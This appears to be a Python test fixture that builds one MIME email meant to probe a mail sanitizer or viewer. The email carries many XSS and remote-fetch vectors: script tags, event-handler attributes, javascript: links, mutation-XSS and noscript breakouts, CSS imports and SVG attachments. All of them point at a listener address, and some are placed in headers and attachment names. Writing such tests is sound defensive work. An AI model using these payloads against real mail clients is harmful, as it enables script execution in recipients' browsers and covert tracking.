"""Everything in a mail that has ever made a browser run or fetch something, in one message."""


def hostile(home: str) -> bytes:
    """``home`` is the address of a listening server: what fetches anything names it."""
    run = f"fetch('{home}/ran'); document.title='ran'"
    quoted = f"<script>{run}</script>"
    broken = f'"><img src={home}/i onerror={run.split(";", maxsplit=1)[0]}>'
    html = f"""
<html><head><base href="{home}/"><link rel="stylesheet" href="{home}/css"><link rel="prefetch" href="{home}/p">
<meta http-equiv="refresh" content="0;url={home}/refresh"><style>@import '{home}/import';
@font-face {{ font-family: f; src: url({home}/font) }} body {{ background: url({home}/back); font-family: f }}</style>
{quoted}</head><body background="{home}/body" onload="{run}">
<p id="seen">the words</p><img src="{home}/img"><img srcset="{home}/srcset 1x"><img src=x onerror="{run}">
<div style="background-image: url('{home}/style'); list-style: url({home}/list)">x</div>
<div style="background: u\\72l({home}/escaped)">x</div><input type="image" src="{home}/input" autofocus onfocus="{run}">
<svg onload="{run}"><image href="{home}/svg"/><use href="{home}/use#x"/><script>{run}</script></svg>
<iframe src="{home}/frame"></iframe><iframe srcdoc="{quoted}"></iframe><object data="{home}/object"></object>
<embed src="{home}/embed"><video src="{home}/video" poster="{home}/poster" autoplay></video><audio src="{home}/audio" autoplay></audio>
<picture><source srcset="{home}/source"><img></picture><table background="{home}/table"><tr><td>x</td></tr></table>
<form action="{home}/form"><button id="go">go</button></form><details open ontoggle="{run}"><summary>s</summary></details>
<a id="link" href="javascript:{run}">script</a><a id="out" href="{home}/link" ping="{home}/ping">out</a>
<math><mtext><mglyph><style><img src=x onerror="{run}"></style></math>
<noscript><p title="</noscript><img src={home}/noscript onerror='{run}'>"></noscript>
<img src="cid:drawing@x"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>">
</body></html>"""
    drawing = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script></svg>'
    lines = [
        f'From: "{quoted}{broken}" <evil@customers.test>',
        f'To: "{quoted}" <support@lab.test>',
        f"Subject: subject {quoted} {broken}",
        f"Message-ID: <{quoted}@customers.test>",
        f"X-Evil: {quoted} {broken}",
        "MIME-Version: 1.0",
        "Content-Type: multipart/mixed; boundary=b",
        "",
        "--b",
        "Content-Type: multipart/alternative; boundary=a",
        "",
        "--a",
        "Content-Type: text/plain; charset=utf-8",
        "",
        f"text {quoted} {broken}",
        f"On Monday {quoted} wrote:",
        f"> {quoted}",
        "--a",
        "Content-Type: text/html; charset=utf-8",
        html,
        "--a--",
        "--b",
        "Content-Type: image/svg+xml",
        "Content-ID: <drawing@x>",
        f'Content-Disposition: attachment; filename="{quoted.replace(chr(34), "")}.svg"',
        "",
        drawing,
        "--b",
        'Content-Type: text/html; name="page.html"',
        'Content-Disposition: attachment; filename="page.html"',
        "",
        f"<html>{quoted}<img src={home}/attached></html>",
        "--b--",
        "",
    ]
    return "\r\n".join(lines).replace("\n\n", "\r\n\r\n").encode()
